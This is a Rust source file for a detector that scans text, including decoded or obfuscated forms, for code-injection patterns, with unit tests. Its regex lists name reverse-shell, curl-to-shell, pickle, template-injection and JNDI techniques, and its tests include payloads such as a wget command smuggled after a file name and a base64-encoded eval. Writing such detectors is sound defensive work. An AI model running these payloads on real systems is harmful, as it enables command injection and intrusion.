//! Code in text: patterns over the readings of a text. Linear: the `regex` crate, byte classes, no backtracking.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{deobfuscate::Reading, excerpt::around, programs::OTHER_LANGUAGES, text::Text};

/// Code beyond doubt, whatever the input is called.
const CERTAIN: &[&str] = &[
    // Python internals and imports that do something
    r#"__import__\(\s*['"]"#,
    r"__(builtins|globals|subclasses|class|mro|base|bases|getattribute|code|reduce|reduce_ex|dict|loader)__",
    r"\bos\.(system|popen|exec[lv]\w*|spawn\w*|posix_spawn\w*|remove|unlink|rmdir|removedirs|fork|kill|environ|dup2|startfile|putenv|chmod|rename|walk|listdir)\b",
    r"\bsubprocess\.(run|call|popen|check_\w+|getoutput|getstatusoutput)\(",
    r"\b(import|from)\s+(os|sys|subprocess|socket|shutil|ctypes|pty|pickle|marshal|importlib|builtins|requests|urllib|urllib2|http\.client|ftplib|telnetlib|paramiko|pathlib|multiprocessing|runpy|codecs|base64|platform|smtplib|winreg|asyncio)\s*(;|\n|,|$|\bas\b|\bimport\b|\.)",
    r"\bimportlib\.(import_module|util|reload)",
    r#"\b(eval|exec|execfile|compile)\(\s*(['"]|f['"]|b['"]|compile\(|base64|bytes|chr\(|open\(|requests|urllib|getattr|marshal|codecs|zlib|__)"#,
    r"\bgetattr\(\s*(__|os\b|sys\b|builtins|globals)",
    r"\b(globals|locals|vars)\(\w*\)\[",
    r"\bsys\.modules\b",
    r"\bshutil\.(rmtree|move|copy\w*|chown)\b",
    r"\bctypes\.(cdll|windll|oledll|pythonapi|util|memmove)",
    r"\b(c?pickle|marshal|dill|shelve|joblib)\.loads?\(",
    r"\b(pty\.spawn|socket\.socket|socket\.create_connection|code\.interact|runpy\.run_\w+|webbrowser\.open)\(",
    r"\b(requests|httpx|urllib\.request|aiohttp)\.(get|post|put|urlopen|urlretrieve|request)\(",
    r"\bopen\([^()\n]{1,120},\s*(mode\s*=\s*)?b?['\x22][wax]b?\+?['\x22]",
    // pickle streams
    r"(^|\n|\()c(os|posix|nt|builtins|__builtin__|subprocess|commands|sys)\s\w+",
    // templates
    r"\{\{[^{}]{0,200}(__|\bconfig\b|\bself\.|\bcycler\b|\blipsum\b|\bjoiner\b|\bnamespace\b|\brequest\.|\bpopen\b|\|\s*attr\()",
    r"\|\s*attr\(",
    r"\{\d*\.__",
    r"\{%[-+]?\s*(import|include|from|extends)\b|\{%[^%\n]{0,200}\b(cycler|lipsum|joiner|self\.|config\.|request\.)",
    // shells
    r"/bin/((ba|z|da|k|c)?sh|python\d?|perl|busybox)\b",
    r"/dev/(tcp|udp)/",
    r"\b(curl|wget|fetch|iwr|invoke-webrequest)\b[^\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
    r"\$\(\s*[a-z/]",
    r"(;|&&|\|\||\|)\s*(sudo\s+)?(rm|wget|curl|nc|ncat|bash|sh|zsh|python\d?|perl|ruby|php|chmod|chown|cat|touch|mkfifo|nohup|crontab|powershell|cmd|certutil|dd|tee)\s+([-/$~.]|https?:)",
    r"!!python/|<!(entity|doctype)\b|\$\{\s*jndi:|<\?php\b|<%=",
    r"\b(codecs\.decode|bytes\.fromhex|binascii\.\w+|zlib\.decompress|(base64\.)?b(64|32|85|16)decode)\(",
    r"(^|\s)ext::\w|\biex\s*[( ]|\bdownloadstring\(|\b(certutil|bitsadmin|mshta|regsvr32|rundll32)(\.exe)?\s",
    r"\bdocument\.(cookie|write|location)|\bxmlhttprequest\b|\bglobalthis\b|\bimport\(\s*['\x22]",
    r"\b(crontab|useradd|mkfifo|nohup)\s+[-/]|>\s*/(etc|root|dev|var|home)/",
    r"\b(nc|ncat|netcat)\s+(-\w*[elc]\w*\s|\d|[\w.]+\s+\d{2,5})",
    r"\bpowershell(\.exe)?\s+-",
    r"\binvoke-(expression|webrequest)\b",
    r"\bcmd(\.exe)?\s+/[ck]\b",
    r"\brm\s+-\w*[rf]\w*\s",
    r"\b(ba|z|da|k)?sh\s+-[ic]\b",
    r"\bpython\d?\s+-c\b",
    // any language: what starts a process, and a shell or an interpreter among its arguments
    r"\b(command(::new)?|exec\w*|spawn\w*|popen\d?|system|start(_?process)?|run(_?(command|process))?|shellexecute\w*|createprocess\w*|processbuilder|processstartinfo)\(([^);]*[(,\[{])?\s*[\x22'`]([^\x22'`\s]*[/\\])?((ba|z|da|k|c|fi)?sh|busybox|cmd|powershell|pwsh|python[\d.]*|perl|ruby|node|php|lua|osascript|[cw]script)(\.exe)?([\x22'`]\s*[,)\]}]|\s+[-/])",
    // JavaScript, Lua, others
    r"\.constructor\.constructor\b",
    r#"\bconstructor\(\s*['"]return"#,
    r#"\brequire\(\s*['"](node:)?(child_process|fs|net|os|vm|http)"#,
    r"\bprocess\.(env|mainmodule|binding|dlopen|exit)\b",
    r"\bchild_process\b",
    r"\bfunction\(\)\s*\{|=>\s*\{|\bnew\s+function\(",
    r"<script\b|\bjavascript:",
    r"\b(os\.execute|io\.popen|loadstring|dofile|package\.loadlib)\(",
    r"\b(system|passthru|shell_exec|proc_open)\(\s*['\x22]",
    r"\bjava\.lang\.(runtime|processbuilder)\b|\bruntime\.getruntime\(",
];

/// Words that are code where code is meant, and prose elsewhere.
const LIKELY: &[&str] = &[
    r"\b(eval|exec|execfile|compile|__import__|getattr|setattr|globals|locals|vars|breakpoint|chr|open|input)\(",
    r"[=(,\[:]\s*(eval|exec|__import__|system|popen)\b",
    // `importlib-metadata` is a package
    r"\b(subprocess|ctypes|pickle|marshal)\b|\bimportlib($|[^\w-])",
    r"(^|[;:\n\r{}()'\x22`=,>])\s*import\s+[a-z_*{][\w.*]*\s*($|[;,\n\r#]|as\b|from\b)",
    r"\b__\w+__\b",
    r"\blambda\b[^:\n]{0,80}:",
    r"`[^`\n]+`",
    r"(;|&&|\|\||\||\n)\s*(sudo\s+)?(rm|wget|curl|nc|bash|sh|python\d?|perl|ruby|php|chmod|cat|touch|whoami|id|env|printenv|uname|ls|ps|kill|reboot|shutdown|ping)(\s|$)",
    r"\bfrom\s+[\w.]+\s+import\s+[*\w]",
    r"@(eval|exec|input|compile|print)\b",
    r#"\bexec\s+['"]"#,
    r"\\n\{[a-z ]+\}",
    r"\{\{\s*\w+\s*[*+]\s*\w+|\{\{[^}|\n]*\(|\{\{[^}\n]*[\])]\(|#\{[^}]*\}|%x\(",
    r"\b(fetch|settimeout|setinterval|require|alert)\(",
    r"\b(requests|urllib|httpx|socket|shutil|pathlib|builtins|codecs|binascii)\.\w",
    r"\.(decode|decompress|unpack|loads|popen|system|spawn|connect|format_map)\(",
    r"\bdef\s+\w+\(",
    r"\b(print|type|dir)\(",
    r"\bos\.\w+",
    r"\bsys\.\w+",
    r"\btorch\.(load|save|hub|ops|jit)\b",
    r"\bnumpy\.load\b|\bnp\.(load|save|fromfile|memmap)\b",
    r"\bsudo\s",
    r"(^|\s)--(upload-pack|receive-pack|exec|config|output|post-file|checkpoint-action)\b",
    r"(^|\s)-o?proxycommand\b|\bproxycommand=",
    r"\btextfile=|(^|\s)-i\s+(/|concat:|http|subfile:|file:)|\bconcat:|\bsubfile,",
    r"\bunion\s+select\b|;\s*(select|insert|delete|update|drop|truncate|alter|attach)\s",
    r"\$\{[^}]*\}",
    r"\bwhile\s*\(?\s*(true|1)\b",
];

static CERTAIN_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| any_of(CERTAIN));
static LIKELY_CODE: LazyLock<Option<Regex>> =
    LazyLock::new(|| any_of(&[CERTAIN, LIKELY, OTHER_LANGUAGES].concat()));

fn any_of(patterns: &[&str]) -> Option<Regex> {
    // Byte classes: Unicode word boundaries would leave the fast engine at the first non-ASCII letter.
    let joined = patterns.iter().map(|pattern| format!("(?:{pattern})")).collect::<Vec<_>>().join("|");
    regex::bytes::RegexBuilder::new(&joined)
        .unicode(false)
        .size_limit(64 << 20)
        .dfa_size_limit(16 << 20)
        .build()
        .ok()
}

/// What a text was hidden for when it decodes to one word.
const HIDDEN_WORDS: [&str; 10] = [
    "eval",
    "exec",
    "compile",
    "system",
    "popen",
    "os.system",
    "__import__",
    "subprocess",
    "getattr",
    "globals",
];

/// How sure one has to be before text counts as code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Confidence {
    /// Only what can be nothing else: the input is meant for prose.
    Certain,
    /// Also words that are code more often than not.
    Likely,
}

/// Code that was seen.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct CodeMatch {
    /// The part that gave it away, as it reads.
    pub(super) excerpt: String,
    /// True when something had to be decoded or put together to see it.
    pub(super) decoded: bool,
}

/// The first of the readings of `text` that is code.
pub(super) fn find_code(
    text: Text<'_>,
    readings: &[Reading<'_>],
    confidence: Confidence,
) -> Option<CodeMatch> {
    if text.len() < 4 || is_arithmetic(&text) {
        return None;
    }
    readings.iter().find_map(|reading| {
        let end = match confidence {
            Confidence::Certain => end_of_match(&CERTAIN_CODE, &reading.text)?,
            Confidence::Likely => end_of_match(&LIKELY_CODE, &reading.text).or_else(|| {
                let says_it = |line: &str| HIDDEN_WORDS.contains(&line.trim());
                (reading.decoded && reading.text.lines().any(says_it)).then_some(0)
            })?,
        };
        // Where nothing was moved, the text itself is shown, as somebody wrote it.
        let as_written = !reading.decoded && text.is_plain() && reading.text.len() == text.len();
        let shown = if as_written { text.as_str() } else { &reading.text };
        Some(CodeMatch { excerpt: around(shown, end), decoded: reading.decoded })
    })
}

/// True for sums over single letters: nothing that runs is spelled without a word.
fn is_arithmetic(text: &str) -> bool {
    let mut letters = 0;
    let mut run = 0;
    let mut numbers = 0;
    let mut before = b' ';
    for byte in text.bytes() {
        if !matches!(byte, b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b' ' | b'+' | b'-' | b'*' | b'/' | b'^' | b'.' | b',' | b'(' | b')')
        {
            return false;
        }
        letters = if byte.is_ascii_alphabetic() { letters + 1 } else { 0 };
        run = if byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'/') { run + 1 } else { 0 };
        numbers += usize::from(byte.is_ascii_digit() && !before.is_ascii_digit());
        // Longer runs may be base64, more numbers may be character codes.
        if letters > 1 || run > 8 || numbers > 3 {
            return false;
        }
        before = byte;
    }
    true
}

/// Where the first match ends. A set of patterns that did not compile finds everything: nothing passes unseen.
fn end_of_match(patterns: &LazyLock<Option<Regex>>, text: &str) -> Option<usize> {
    patterns.as_ref().map_or(Some(0), |patterns| patterns.shortest_match(text.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspector::deobfuscate::readings;

    fn is_code(text: Text<'_>, confidence: Confidence) -> bool {
        find_code(text, &readings(text), confidence).is_some()
    }

    #[test]
    fn the_patterns_compile() {
        assert!(CERTAIN_CODE.is_some() && LIKELY_CODE.is_some());
    }

    #[test]
    fn code_is_seen_through_its_disguises() {
        for text in [
            "__import__('os').system('id')",
            "os . system ('id')",
            "from os import system",
            "exec(''.join(map(chr,[105,109])))",
            "\\x5f\\x5fimport\\x5f\\x5f('os')",
            "ZXZhbChjb21waWxlKCcxJywnJywnZXZhbCcpKQ==",
            "getattr(__builtins__, 'ev'+'al')",
            "a.png; wget https://x.example/p",
            "open('a', mode='w')",
        ] {
            assert!(is_code(Text::new(text), Confidence::Certain), "{text}");
        }
        for text in [
            "eval #\n('1')",
            "[(e:=eval), e('1')]",
            "`id`",
            "ev\u{200b}al(x)",
            "\u{1d41e}\u{1d42f}\u{1d41a}\u{1d425}(1)",
        ] {
            assert!(is_code(Text::new(text), Confidence::Likely), "{text}");
        }
    }

    #[test]
    fn a_sight_shows_what_gave_the_code_away() {
        let of = |text: &str| {
            let text = Text::new(text);
            find_code(text, &readings(text), Confidence::Likely).map(|code| (code.excerpt, code.decoded))
        };
        let written = of("X = 1; Import OS; os.system('Id')").unwrap();
        assert_eq!(written, ("X = 1; Import OS; os.system('Id')".into(), false));
        assert_eq!(of("b3Muc3lzdGVtKCdpZCcp").unwrap(), ("os.system('id')".into(), true));
    }

    #[test]
    fn prose_about_code_is_prose() {
        for text in [
            "eval (2024) film poster, bold typography",
            "a jar of pickles, pickle.loads of fun label",
            "__import__ (car:1.2), jdm street racing",
            "import duty office, 1920s customs house",
            "open (window, 'warm light'), curtains",
            "subprocess.run marathon, runners in the rain",
            "(masterpiece:1.2), <lora:add_detail:0.8>",
            "${price} tag on a vintage lamp",
        ] {
            assert!(!is_code(Text::new(text), Confidence::Certain), "{text}");
        }
        for text in [
            "a*b + round(c, 2)",
            "1024",
            "euler",
            "videos/day one/take 2",
            "#ff8800",
            "{a} and {b}",
            "0.5,0.5,1.0,1.0",
        ] {
            assert!(!is_code(Text::new(text), Confidence::Likely), "{text}");
        }
    }

    #[test]
    fn a_megabyte_of_openings_takes_no_time() {
        let start = std::time::Instant::now();
        assert!(is_code(Text::new(&"open(a,".repeat(150_000)), Confidence::Likely));
        assert!(!is_code(Text::new(&"open(".repeat(200_000)), Confidence::Certain));
        // Linear: a debug build needs a fraction of this; a quadratic search would need minutes.
        assert!(start.elapsed().as_secs() < 20);
    }
}
